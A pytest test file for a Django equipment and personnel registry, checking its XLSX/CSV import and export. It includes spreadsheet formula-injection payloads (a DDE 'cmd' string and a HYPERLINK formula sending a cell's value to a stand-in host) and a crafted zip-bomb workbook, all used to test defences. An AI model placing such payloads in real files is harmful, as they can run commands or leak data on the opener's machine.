def test_cli_imports_and_dry_run_writes_nothing(db, tmp_path):
    path = write(tmp_path / "b.xlsx", base())
    out = io.StringIO()
    call_command("import", str(path), "--dry-run", stdout=out, stderr=io.StringIO())
    assert "（试运行，未写入）" in out.getvalue()
    assert OrgUnit.objects.count() == 0
    call_command("import", str(path), stdout=out, stderr=io.StringIO())
    assert "assets：新增 12" in out.getvalue()
    assert ChangeRecord.objects.filter(source="import").exists()


class Recorder(Progress):
    def __init__(self):
        self.stages: list[tuple[str, int | None, int]] = []

    def start(self, label, total):
        self.stages.append((label, total, 0))

    def advance(self, count):
        label, total, done = self.stages[-1]
        self.stages[-1] = (label, total, done + count)


def test_progress_is_reported_per_stage(db, tmp_path):
    sheets = base()
    sheets["assets"] += [[f"X-{i:05d}", "radio", "对讲机", "CZ-TN-01", "", "in_stock", "", "", "", "", ""]
                         for i in range(2500)]
    progress = Recorder()
    run_import(write(tmp_path / "big", sheets), progress=progress)
    stages = {label: done for label, _total, done in progress.stages}
    assert stages["reading assets.csv"] == 2509
    assert stages["writing assets"] == 2512  # with the 3 items personnel shorthand stands for


def test_large_files_show_a_progress_bar_small_ones_do_not(db, tmp_path, capfd):
    call_command("import", str(write(tmp_path / "small.xlsx", base())))
    small = capfd.readouterr()
    assert "assets：新增 12" in small.out
    assert "rows/s" not in small.err and "it/s" not in small.err
    sheets = base()
    sheets["assets"] += [[f"X-{i:05d}", "radio", "对讲机", "CZ-TN-01", "", "in_stock", "", "", "", "", ""]
                         for i in range(5100)]
    call_command("import", str(write(tmp_path / "large", sheets)))
    large = capfd.readouterr()
    assert "reading assets.csv" in large.err and "writing assets" in large.err
    assert "5100/5100" in large.err  # the bar counts the rows written
    assert "assets：新增 5100，更新 0，未变 9" in large.out


# --- formulas and control characters --------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/\"&A1,\"点我\")", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1)",
            "'=already quoted"]


def test_text_entered_through_the_api_is_never_a_live_formula_in_an_export(bureau, tmp_path, api_client_for):
    """`qm export`: a name typed as a formula is text in the XLSX (no formula cell) and in the CSV (leading
    apostrophe); importing the export gives back exactly the names entered."""
    from tests.support.fixtures import make_user

    client = api_client_for(make_user("admin", "administrator", superuser=True))
    for n, name in enumerate(FORMULAS):
        response = client.post("/api/v1/personnel/", {"staff_no": f"F{n}", "name": name, "unit": "CZ-TN-01",
                                                      "role": "auxiliary"}, format="json")
        assert response.status_code == 201, response.content
    call_command("export", str(tmp_path / "out.xlsx"))
    call_command("export", str(tmp_path / "csv"))
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["personnel"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for n, name in enumerate(FORMULAS):
        assert cells[f"F{n}"].data_type == "s" and cells[f"F{n}"].value == "'" + name
    with open(tmp_path / "csv" / "personnel.csv", encoding="utf-8", newline="") as handle:
        written = {row[0]: row[1] for row in csv.reader(handle)}
    assert [written[f"F{n}"] for n in range(len(FORMULAS))] == ["'" + name for name in FORMULAS]
    assert written["P001"] == "张三"

    for exported in (tmp_path / "out.xlsx", tmp_path / "csv"):  # read back as the very names: no person changes
        # (the fixture's officers carry cert_no without a certificate asset: the first import creates those)
        result = run_import(exported)
        people = result.counts["personnel"]
        assert (people.created, people.updated) == (0, 0), result.summary()
    assert [Person.objects.get(staff_no=f"F{n}").name for n in range(len(FORMULAS))] == FORMULAS


def test_compliance_csv_and_xlsx_carry_unit_names_as_text(bureau):
    from compliance.render import render_csv, render_xlsx
    from compliance.services import compliance_report

    OrgUnit.objects.filter(code="CZ-TN").update(name="=1+2")
    OrgUnit.objects.filter(code="CZ-WJ").update(name="@cmd")
    report = compliance_report(unit=OrgUnit.objects.get(code="CZ"), standard_id="jiangsu",
                               as_of=dt.date(2026, 11, 22))
    values = [c.value for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
              for c in row if isinstance(c.value, str)]
    formulas = [c for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == [] and "'=1+2" in values and "'@cmd" in values
    rows = list(csv.reader(io.StringIO(render_csv(report).decode())))
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


def test_a_control_character_in_a_cell_is_refused_with_its_place(db, tmp_path):
    """A NUL in a CSV cell used to be stored, and then every XLSX export stopped on it."""
    sheets = base()
    sheets["personnel"][2][1] = "李\x00四"
    sheets["assets"][2][6] = "SN\x07"
    with pytest.raises(WorkbookError) as refused:
        run_import(write(tmp_path / "b", sheets))
    reasons = [str(e) for e in refused.value.errors]
    assert "personnel.csv，第 4 行，name 列：第 2 个字符是控制字符 U+0000" in reasons
    assert "assets.csv，第 4 行，serial 列：第 3 个字符是控制字符 U+0007" in reasons
    assert Person.objects.count() == 0


# --- crafted and malformed XLSX files -------------------------------------------------------------------------

ASSETS_XML = "xl/worksheets/sheet3.xml"  # write() creates the sheets in BASE's order: units, personnel, assets…


def _patched(source: Path, target: Path, part: str, edit) -> Path:
    """A copy of the XLSX `source` whose `part` is rewritten by edit(text) -> text, as a crafted file would be."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        names = zin.namelist()
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == part:
                data = edit(data.decode()).encode()
            zout.writestr(info, data)
        if part not in names:
            zout.writestr(part, edit(""))
    return target


def _replace(old: str, new: str):
    def edit(xml: str) -> str:
        assert old in xml, old
        return xml.replace(old, new, 1)
    return edit


G4 = '<c r="G4" t="inlineStr"><is><t>SN-R1</t></is></c>'  # assets row 4, column serial


@pytest.mark.parametrize("edit, where, reason", [
    (_replace(G4, '<c r="G4" t="s"><v>99</v></c>'), ("assets", 4, "serial"), "引用了第 99 个共享字符串，但只有 0 个"),
    (_replace(G4, '<c r="G4"><v>abc</v></c>'), ("assets", 4, "serial"), "存储的值“abc”不是有效的"),
    (_replace(G4, '<c r="XFE4" t="inlineStr"><is><t>SN-R1</t></is></c>'), ("assets", 4, "XFE"),
     "单元格 XFE4 超出了读取的最后一列 XFD"),
    (_replace(G4, '<c r="ZZZZZZZZ4" t="inlineStr"><is><t>SN-R1</t></is></c>'), ("assets", 4, "ZZZZZZZZ4"),
     "单元格引用“ZZZZZZZZ4”有误"),
    (_replace('<row r="4">', '<row r="99999999999">'), ("assets", 4, ""),
     "行号“99999999999”不在 1 到 1048576 之间"),
    (_replace('<row r="4">', '<row r="2000000">'), ("assets", 4, ""), "不在 1 到 1048576 之间"),
    (_replace("</sheetData>", "<c></sheetData>"), ("assets", 11, ""), "工作表的 XML 在第 1 行"),
    (_replace("SN-R1", "SN&#0;R1"), ("assets", 4, ""), "工作表的 XML"),
], ids=["shared string out of range", "number that is not", "column beyond XFD", "absurd column",
        "row number of hours", "row number past Excel's", "broken XML", "NUL character"])
def test_a_malformed_xlsx_is_refused_with_sheet_row_and_column(db, tmp_path, edit, where, reason):
    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", ASSETS_XML, edit)
    with pytest.raises(WorkbookError) as caught:
        run_import(path)
    found = [e for e in caught.value.errors if (e.sheet, e.row, e.column) == where]
    assert found and reason in found[0].reason, [str(e) for e in caught.value.errors]
    assert OrgUnit.objects.count() == 0


def test_the_cli_names_the_cell_of_a_malformed_xlsx_without_a_traceback(db, tmp_path, monkeypatch, capfd):
    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", ASSETS_XML,
                    _replace(G4, '<c r="G4" t="s"><v>-1</v></c>'))
    assert run_qm("import", str(path), monkeypatch=monkeypatch) != 0
    err = capfd.readouterr().err
    assert "assets，第 4 行，serial 列：" in err and "Traceback" not in err


def test_a_zip_that_unpacks_beyond_the_limit_is_refused_before_it_is_read(db, tmp_path, settings):
    """A few KB of zip can hold hundreds of MB of shared strings; the declared sizes are checked first."""
    settings.QM_IMPORT_MAX_MB = 2
    strings = "<sst>" + "<si><t>" + "a" * 3 * 1024 * 1024 + "</t></si></sst>"
    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bomb.xlsx", "xl/sharedStrings.xml",
                    lambda _xml: strings)
    assert path.stat().st_size < 64 * 1024
    with pytest.raises(ValueError, match=r"工作簿解压后为 3 MB，超过允许的 2 MB（设置 QM_IMPORT_MAX_MB）"):
        run_import(path)
    with pytest.raises(CommandError, match="QM_IMPORT_MAX_MB"):
        call_command("import", str(path))
    assert OrgUnit.objects.count() == 0


def test_an_unreadable_part_is_named(db, tmp_path):
    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", "xl/styles.xml",
                    lambda xml: xml[: len(xml) // 2])
    with pytest.raises(ValueError, match=r"不是可读的 XLSX 工作簿（xl/styles.xml: ParseError"):
        run_import(path)


def test_row_and_size_limits_apply_to_csv_folders(db, tmp_path, settings):
    folder = write(tmp_path / "csv", base())
    settings.QM_IMPORT_MAX_ROWS = 5
    with pytest.raises(WorkbookError) as caught:
        run_import(folder)
    assert ("assets.csv", 6, "") in [(e.sheet, e.row, e.column) for e in caught.value.errors]
    settings.QM_IMPORT_MAX_ROWS, settings.QM_IMPORT_MAX_MB = 1000, 0
    with pytest.raises(ValueError, match="设置 QM_IMPORT_MAX_MB"):
        run_import(folder)
    assert OrgUnit.objects.count() == 0


# --- the bureau as it stands (SPEC "Bureau workbook") ---------------------------------------------------------

def test_a_retired_vehicle_still_listing_its_terminal_imports_and_binds_nothing(db, tmp_path):
    """The real workbook that was refused whole: recorded, the terminal kept in the file as history, unbound."""
    sheets = base()
    sheets["vehicles"][1][5] = "T0002"
    sheets["vehicles"][1][7] = "retired"
    path = write(tmp_path / "b.xlsx", sheets)
    run_import(path)
    van = Vehicle.objects.get(plate="苏D·A0002")
    assert (van.status, van.terminal_id) == ("retired", None)
    history = TerminalBinding.objects.get(vehicle=van)
    assert (history.terminal_id, history.unbound_at is not None) == ("T0002", True)
    assert not Vehicle.objects.filter(terminal_id="T0002").exists()  # what the ingest binds fixes to
    before = registry_counts()
    result = run_import(path)  # idempotent
    assert registry_counts() == before and result.counts["vehicles"].unchanged == 2
    # The same terminal may serve another vehicle now.
    sheets["vehicles"].append(["苏D·A0009", "CZ-TN", 5, "", "", "T0002", "yes", "in_service", "", "", ""])
    run_import(write(tmp_path / "c.xlsx", sheets))
    assert Vehicle.objects.get(terminal_id="T0002").plate == "苏D·A0009"


def test_a_vehicle_retired_by_the_workbook_keeps_its_terminal_as_history(db, tmp_path):
    run_import(write(tmp_path / "a.xlsx", base()))
    sheets = base()
    sheets["vehicles"][0][7] = "retired"  # A0001 still lists T0001
    run_import(write(tmp_path / "b.xlsx", sheets))
    car = Vehicle.objects.get(plate="苏D·A0001")
    assert (car.status, car.terminal_id) == ("retired", None)
    assert list(TerminalBinding.objects.filter(vehicle=car).values_list("terminal_id", flat=True)) == ["T0001"]
    assert TerminalBinding.objects.get(vehicle=car).unbound_at is not None


def test_a_retired_vehicles_last_terminal_survives_export_and_import(db, tmp_path):
    """The export lists a retired vehicle's last terminal, as the workbook gave it (it was written empty, so an
    export imported elsewhere lost it): imported again it changes nothing, and a registry that lacks the vehicle
    records the terminal in its file as history, unbound."""
    sheets = base()
    sheets["vehicles"][1][5:8] = ["T0002", "no", "retired"]
    run_import(write(tmp_path / "b.xlsx", sheets))
    exported = _read_back(export_workbook(tmp_path / "out.xlsx"))
    van = exported["vehicles"][2]
    assert van[:8] == ("苏D·A0002", "CZ-TN-01", "7", "LSVAA4187E2000002", "SUV", "T0002", "no", "retired")
    before = registry_counts()
    assert run_import(tmp_path / "out.xlsx").change_records == 0 and registry_counts() == before
    assert _read_back(export_workbook(tmp_path / "again.xlsx")) == exported

    # The exported row as a registry without that vehicle reads it (another plate stands for "not registered").
    row = ["苏D·A0003", *van[1:]]
    run_import(write(tmp_path / "c.xlsx", {"vehicles": [row]}))
    other = Vehicle.objects.get(plate="苏D·A0003")
    assert (other.status, other.terminal_id) == ("retired", None)
    assert list(TerminalBinding.objects.filter(vehicle=other, unbound_at__isnull=False).values_list(
        "terminal_id", flat=True)) == ["T0002"]


def test_expired_certificates_and_departed_holders_are_recorded_not_refused(db, tmp_path):
    """cert_no/cert_expires stand for the certificate asset (tag = the number): an expired one is recorded, and
    the compliance report reads it; a transferred officer's kit stays held by him."""
    from django.utils import timezone

    from compliance.services import compliance_report

    today = timezone.localdate()
    sheets = base()
    sheets["personnel"][0][7] = (today - dt.timedelta(days=3)).isoformat()  # P001's certificate expired
    run_import(write(tmp_path / "b.xlsx", sheets))
    cert = Asset.objects.get(tag="JS0001")
    assert (cert.category_id, cert.serial, cert.expires, cert.status, cert.holder_person.staff_no) == (
        "certificate", "JS0001", today - dt.timedelta(days=3), "issued", "P001")
    badge = Asset.objects.get(tag="320401002")
    assert (badge.category_id, badge.item, badge.holder_person.staff_no) == ("insignia", "胸号", "P002")
    assert Asset.objects.get(tag="C-002").holder_person.staff_no == "P002"  # transferred, still holding
    data = compliance_report(unit=OrgUnit.objects.get(code="CZ"), standard_id="jiangsu", as_of=today).data
    found = {(r["rule"], r["unit"]): (r["required"], r["actual"], r["status"]) for r in data["results"]}
    assert found[("valid-certificate", "CZ")] == (1, 0, "fail")
    assert found[("certificate-surrender", "CZ")] == (1, 0, "fail")


def test_a_new_cert_expires_is_a_dated_renewal(db, tmp_path):
    from django.utils import timezone

    run_import(write(tmp_path / "a.xlsx", base()))
    sheets = base()
    sheets["personnel"][0][7] = "2035-01-01"
    result = run_import(write(tmp_path / "b.xlsx", sheets))
    cert = Asset.objects.get(tag="JS0001")
    assert cert.expires == dt.date(2035, 1, 1)
    renew = CustodyEvent.objects.get(asset=cert, action="renew")
    assert (renew.expires_after, renew.status_after, renew.holder_person_after.staff_no) == (
        dt.date(2035, 1, 1), "issued", "P001")
    assert CustodyEvent.objects.filter(asset=cert, occurred_at__lt=renew.occurred_at).latest(
        "occurred_at", "id").expires_after == dt.date(2030, 1, 1)
    assert result.counts["assets"].updated == 1 and timezone.localdate(renew.occurred_at) == timezone.localdate()


def test_a_new_cert_expires_renews_the_certificate_without_an_assets_sheet(db, tmp_path):
    """A personnel sheet alone: the shorthand still updates the certificate (it was written to the person only)."""
    run_import(write(tmp_path / "a.xlsx", base()))
    sheets = base()
    sheets["personnel"][0][7] = "2035-01-01"
    path = write(tmp_path / "people.xlsx", {"personnel": sheets["personnel"]})
    result = run_import(path)
    cert = Asset.objects.get(tag="JS0001")
    assert cert.expires == dt.date(2035, 1, 1) == Person.objects.get(staff_no="P001").cert_expires
    assert CustodyEvent.objects.get(asset=cert, action="renew").expires_after == dt.date(2035, 1, 1)
    assert (result.counts["assets"].updated, result.events) == (1, 1)
    before = registry_counts()
    assert run_import(path).events == 0 and registry_counts() == before


def test_an_item_imported_as_held_counts_its_replacement_from_acquired(db, tmp_path):
    """No issue date in the workbook: the issue is recorded on the acquisition date, and replacement falls due
    service_years after it (the rule and the uniforms app's list alike)."""
    from assets.selectors import uniform_due_on

    run_import(write(tmp_path / "b.xlsx", base()))
    uniform = Asset.objects.get(tag="U-001")  # 春秋执勤服, acquired 2024-03-01, 4 years
    issue = CustodyEvent.objects.get(asset=uniform, action="issue")
    assert issue.occurred_at.astimezone(dt.timezone(dt.timedelta(hours=8))).date() == dt.date(2024, 3, 1)
    assert uniform.issued_at == issue.occurred_at
    assert uniform_due_on(issued_at=uniform.issued_at, acquired=uniform.acquired, service_years=4) == \
        dt.date(2028, 3, 1)


@pytest.mark.parametrize("holder, said", [
    ("A001", "制式服装只发给执法人员（严禁非城管执法人员穿着），而 李四（工号 A001） 是协管人员"),
    ("CZ-TN", "制式服装只发给执法人员（严禁非城管执法人员穿着），而 CZ-TN 是单位"),
    ("", "已发放却没有持有人（发给了单位）；制式服装只发给执法人员"),
])
def test_a_held_item_a_custody_rule_would_refuse_is_recorded_as_it_stands(db, tmp_path, holder, said):
    """The custody refusals apply to new movements, not to the recorded past: recorded, and said in a notice."""
    sheets = base()
    sheets["assets"][0][4] = holder  # U-001, a uniform
    result = run_import(write(tmp_path / "b.xlsx", sheets))
    uniform = Asset.objects.get(tag="U-001")
    assert uniform.status == "issued"
    assert (uniform.holder_person.staff_no if uniform.holder_person else uniform.holder_unit.code) == \
        (holder or "CZ-TN-01")
    assert [n for n in result.notices if "U-001" in n] == [
        f"装备表第 2 行（U-001）：按现状导入，尽管{said}"]


def test_an_auxiliary_listed_with_a_certificate_or_badge_is_recorded_as_it_stands(db, tmp_path):
    """SPEC: a fact that breaks a rule today is recorded and reported, never refused (the same fact on the assets
    sheet was recorded; through the personnel shorthand it refused the whole workbook)."""
    sheets = base()
    sheets["personnel"][2][6:9] = ["JS0009", "2030-01-01", "320409999"]  # A001, an auxiliary
    path = write(tmp_path / "b.xlsx", sheets)
    result = run_import(path)
    cert, badge = Asset.objects.get(tag="JS0009"), Asset.objects.get(tag="320409999")
    assert (cert.category_id, cert.status, cert.holder_person.staff_no, cert.expires) == (
        "certificate", "issued", "A001", dt.date(2030, 1, 1))
    assert (badge.category_id, badge.item, badge.holder_person.staff_no) == ("insignia", "胸号", "A001")
    assert Person.objects.get(staff_no="A001").badge_no == "320409999"
    assert [n for n in result.notices if n.startswith("人员表")] == [
        "人员表第 4 行：按现状导入，尽管李四（工号 A001） 是协管人员；胸号只绑定给执法人员",
        "人员表第 4 行：按现状导入，尽管李四（工号 A001） 是协管人员；执法证只由执法人员持有"]
    before = registry_counts()
    assert run_import(path).events == 0 and registry_counts() == before


def test_auxiliary_items_recorded_with_their_expiry(db, tmp_path):
    sheets = base()
    sheets["assets"].append(["AC-01", "aux_card", "协管人员工作证", "CZ-TN-01", "A001", "issued", "", "", "", "",
                             "", "2030-01-01"])
    sheets["assets"].append(["AU-01", "aux_uniform", "协管制服", "CZ-TN-01", "P001", "issued", "", "", "", "", "",
                             ""])
    result = run_import(write(tmp_path / "b.xlsx", sheets))
    card = Asset.objects.get(tag="AC-01")
    assert (card.holder_person.staff_no, card.expires) == ("A001", dt.date(2030, 1, 1))
    assert any("AU-01" in n and "协管人员服装只发给协管人员，而 张三（工号 P001） 是执法人员" in n for n in result.notices)
    sheets["assets"][0][11:] = ["2030-01-01"]  # an expiry on a uniform cannot be recorded
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "c.xlsx", sheets))
    assert [(e.sheet, e.column) for e in caught.value.errors] == [("assets", "expires")]


def test_an_imported_loss_has_no_dates(db, tmp_path):
    sheets = base()
    sheets["assets"].append(["C-LOST", "certificate", "行政执法证", "CZ-TN", "P001", "lost", "JSX", "", "", "", "", ""])
    run_import(write(tmp_path / "b.xlsx", sheets))
    lost = CustodyEvent.objects.get(asset__tag="C-LOST", action="report_lost")
    assert (lost.date_lost, lost.date_reported) == (None, None)
    from django.utils import timezone

    from compliance.services import compliance_report

    data = compliance_report(unit=OrgUnit.objects.get(code="CZ"), standard_id="jiangsu",
                             as_of=timezone.localdate()).data
    row = next(r for r in data["results"] if r["rule"] == "certificate-loss-reported")
    assert row["status"] == "insufficient_data"


def test_a_row_error_reads_in_the_language_of_whoever_imports(db, tmp_path):
    sheets = base()
    sheets["units"][1][2] = "county"
    with translation.override("en"), pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "en.xlsx", sheets))
    assert caught.value.errors[0].reason == ("unknown unit kind “county”; expected one of brigade, bureau, detachment, "
                                             "office, squadron")
    with translation.override("zh-hans"), pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "zh.xlsx", sheets))
    assert caught.value.errors[0].reason.startswith("未知的单位类型“county”，应为以下之一：")


# --- the finance columns of the assets sheet (optional, import only) -----------------------------------------

def _with_finance(sheets: dict, prices: dict[str, object], cards: dict[str, str] | None = None) -> dict:
    """The assets rows padded to SPEC's twelve columns, then price and finance_card_no."""
    cards = cards or {}
    sheets["assets"] = [[*row, *[""] * (12 - len(row)), prices.get(row[0], ""), cards.get(row[0], "")]
                        for row in sheets["assets"]]
    return sheets


def test_price_and_finance_card_are_imported_and_a_missing_column_leaves_them(db, tmp_path):
    from decimal import Decimal

    sheets = _with_finance(base(), {"R-001": "¥1,450.50", "REC-01": 2600, "U-001": 420.1},
                           {"R-001": "ZC2025-0001", "REC-01": "ZC2025-0002"})
    run_import(write(tmp_path / "a.xlsx", sheets))
    r1, rec, uniform = (Asset.objects.get(tag=t) for t in ("R-001", "REC-01", "U-001"))
    assert (r1.price, r1.finance_card_no) == (Decimal("1450.50"), "ZC2025-0001")
    assert (rec.price, uniform.price, uniform.finance_card_no) == (Decimal("2600.00"), Decimal("420.10"), "")
    # The same workbook without the columns (SPEC's sheet): the finance books' side stays as it is.
    result = run_import(write(tmp_path / "b.xlsx", {"assets": base()["assets"]},
                              headers={"assets": HEADERS["assets"][:11]}))
    assert result.counts["assets"].updated == 0 and result.change_records == 0
    assert Asset.objects.get(tag="R-001").price == Decimal("1450.50")
    # A new price is an update in the change log; the export keeps to SPEC's columns.
    sheets = _with_finance(base(), {"R-001": "1500", "REC-01": 2600, "U-001": 420.1},
                           {"R-001": "ZC2025-0001", "REC-01": "ZC2025-0002"})
    result = run_import(write(tmp_path / "c-csv", sheets))
    assert result.counts["assets"].updated == 1
    assert Asset.objects.get(tag="R-001").price == Decimal("1500.00")
    record = ChangeRecord.objects.filter(object_id=str(r1.pk), content_type__model="asset").latest("id")
    assert record.action == "update" and record.after["price"] == "1500.00"
    exported = _read_back(export_workbook(tmp_path / "out.xlsx"))
    assert list(exported["assets"][0]) == [c.key for c in SHEETS_BY_KEY["assets"].exported]
    assert "price" not in exported["assets"][0] and len(exported["assets"][0]) == 12


@pytest.mark.parametrize(("value", "reason"), [("abc", "应为以元计的金额"),
                                                ("-5", "金额不能为负数"),
                                                ("12.345", "最多两位小数"),
                                                ("99999999999", "99999999999 超过")])
def test_a_bad_price_is_refused_with_its_place_and_nothing_is_imported(db, tmp_path, value, reason):
    sheets = _with_finance(base(), {"R-002": value})
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "bad", sheets))
    (error,) = caught.value.errors
    assert (error.sheet, error.row, error.column) == ("assets.csv", 5, "price") and reason in error.reason
    assert OrgUnit.objects.count() == 0 and Asset.objects.count() == 0
